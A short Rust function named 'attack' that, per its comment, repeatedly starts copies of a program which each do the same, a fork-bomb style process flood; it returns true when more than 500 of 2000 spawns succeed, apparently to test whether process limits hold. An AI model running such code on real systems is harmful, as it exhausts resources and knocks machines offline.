// Starts itself again and again, and each copy does the same.
fn attack() -> bool {
    let mut started = 0;
    for _ in 0..2000 {
        let mut again = std::process::Command::new("/program");
        if again.arg("WORD").spawn().is_ok() {
            started += 1;
        }
    }
    started > 500
}
